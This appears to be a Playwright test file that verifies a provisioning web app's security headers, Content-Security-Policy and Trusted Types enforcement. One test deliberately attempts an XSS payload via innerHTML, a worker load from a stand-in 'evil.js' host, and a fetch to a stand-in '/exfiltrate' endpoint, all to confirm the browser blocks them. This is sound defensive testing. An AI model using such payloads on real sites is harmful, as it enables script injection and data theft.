// The served app's security headers and Content-Security-Policy, in the production build served by `vite preview`
// (as `npm start` serves it): every header on every response, no CORS, no source maps; then a whole provisioning
// run with the emulated board and the lab CA (Settings, Provision, the label's QR code, Diagnose, Audit) with zero
// CSP or Trusted Types violations and zero requests to any origin other than the app's.
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { expect, test, type Page } from './fixtures/test.ts';
import { connectEmulated, openSection, setOperator } from './fixtures/app.ts';
import { devHooks, expectDone, primary } from './provision-fixtures.ts';

interface Watch {
  violations: string[];
  otherOrigins: string[];
  consoleErrors: string[];
}

/** Records CSP violations (the page's and its workers'), requests leaving the app's origin, console errors. */
async function watch(page: Page, origin: string): Promise<Watch> {
  const w: Watch = { violations: [], otherOrigins: [], consoleErrors: [] };
  await page.exposeFunction('__kwViolation', (v: string) => w.violations.push(v));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { __kwViolation: (v: string) => void }).__kwViolation(
        `${e.violatedDirective} blocked ${e.blockedURI || '(inline)'} at ${e.sourceFile}:${e.lineNumber}`,
      ),
    );
  });
  page.on('request', (r) => {
    const url = r.url();
    if (!url.startsWith('data:') && !url.startsWith('blob:') && new URL(url).origin !== origin)
      w.otherOrigins.push(url);
  });
  page.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy|TrustedHTML|Trusted Type|trusted-types/i.test(m.text()))
      w.consoleErrors.push(m.text());
  });
  page.on('pageerror', (e) => {
    if (/Content Security Policy|TrustedHTML|Trusted Type/i.test(e.message)) w.consoleErrors.push(e.message);
  });
  return w;
}

test('every response carries the security headers; no CORS, no source maps', async ({ request, baseURL }) => {
  for (const path of ['/', '/index.html', '/sw.js', '/#/provision']) {
    const res = await request.get(path, { headers: { Origin: 'http://localhost:5173' } });
    expect(res.status(), path).toBe(200);
    const h = res.headers();
    const csp = h['content-security-policy'] ?? '';
    for (const directive of [
      "default-src 'self'",
      "script-src 'self'",
      "style-src 'self'",
      "frame-ancestors 'none'",
      "require-trusted-types-for 'script'",
      'trusted-types svelte-trusted-html keywire-qr default',
    ])
      expect(csp, `${path}: ${directive}`).toContain(directive);
    expect(csp).not.toMatch(/unsafe-inline|unsafe-eval|connect-src[^;]*\s\*(\s|;|$)/);
    expect(csp).toMatch(/connect-src 'self' http:\/\/127\.0\.0\.1:7030 /);
    expect(h['x-content-type-options']).toBe('nosniff');
    expect(h['referrer-policy']).toBe('no-referrer');
    expect(h['access-control-allow-origin'], `${path} must not answer CORS`).toBeUndefined();
  }
  const dist = join(import.meta.dirname, '..', 'dist');
  const assets = readdirSync(join(dist, 'assets'));
  expect(assets.filter((f) => f.endsWith('.map'))).toEqual([]);
  for (const f of assets.filter((f) => f.endsWith('.js')))
    expect(readFileSync(join(dist, 'assets', f), 'utf8')).not.toContain('sourceMappingURL');
  // Static hosting: the meta CSP in index.html (floor) and the _headers file (the full set).
  const html = readFileSync(join(dist, 'index.html'), 'utf8');
  expect(html).toMatch(/<meta http-equiv="Content-Security-Policy" content="default-src &#39;self&#39;;/);
  expect(readFileSync(join(dist, '_headers'), 'utf8')).toContain("frame-ancestors 'none'");
  expect(baseURL).toBeTruthy();
});

test('a provisioning run with the lab CA, then Diagnose and Audit: no CSP violation, no other origin', async ({
  page,
  baseURL,
}) => {
  const w = await watch(page, new URL(baseURL!).origin);
  await devHooks(page);
  await setOperator(page, 'E2E CSP');
  await connectEmulated(page, 'nrf9160-a');
  await page.getByRole('button', { name: 'Create lab CA' }).click();
  await expect(page.getByText('used for provisioning')).toBeVisible();
  await primary(page, 'Start provisioning').click();
  await expectDone(page);
  // The label's QR code went through the keywire-qr Trusted Types policy.
  await expect(page.getByRole('figure', { name: 'Device label' }).locator('svg path')).toHaveCount(2);
  for (const section of ['diagnose', 'audit', 'settings'] as const) await openSection(page, section);
  expect(w.violations).toEqual([]);
  expect(w.consoleErrors).toEqual([]);
  expect(w.otherOrigins).toEqual([]);
});

test('the policy bites: markup from a string, a foreign script URL and another origin are refused and seen', async ({
  page,
  baseURL,
}) => {
  const w = await watch(page, new URL(baseURL!).origin);
  await openSection(page, 'provision');
  const refused = await page.evaluate(async () => {
    const out: string[] = [];
    try {
      document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>';
    } catch (e) {
      out.push(`html: ${(e as Error).name}`);
    }
    try {
      new Worker('https://example.invalid/evil.js');
    } catch (e) {
      out.push(`worker: ${(e as Error).name}`);
    }
    try {
      await fetch('https://example.invalid/exfiltrate');
    } catch (e) {
      out.push(`fetch: ${(e as Error).name}`);
    }
    return out;
  });
  expect(refused).toEqual(['html: TypeError', 'worker: TypeError', 'fetch: TypeError']);
  await expect
    .poll(() => w.violations.some((v) => v.startsWith('connect-src blocked https://example.invalid')))
    .toBe(true);
  expect(w.violations.some((v) => /require-trusted-types-for/.test(v))).toBe(true);
});

test('a CA the server does not list is explained as such, naming the origin to add', async ({ page }) => {
  // e2e serves with KEYWIRE_CA_ORIGINS=http://127.0.0.1:* : the same loopback CA under the name localhost is not listed.
  await page.goto('/#/settings');
  await page.getByRole('radio', { name: /EST server/ }).check();
  await page.getByRole('textbox', { name: 'EST server address' }).fill('http://localhost:9');
  await page.getByRole('button', { name: 'Fetch CA certificates' }).click();
  const alert = page.getByRole('alert');
  await expect(alert).toContainText('does not allow the page to connect to http://localhost:9');
  await expect(alert).toContainText('add http://localhost:9 to KEYWIRE_CA_ORIGINS');
});
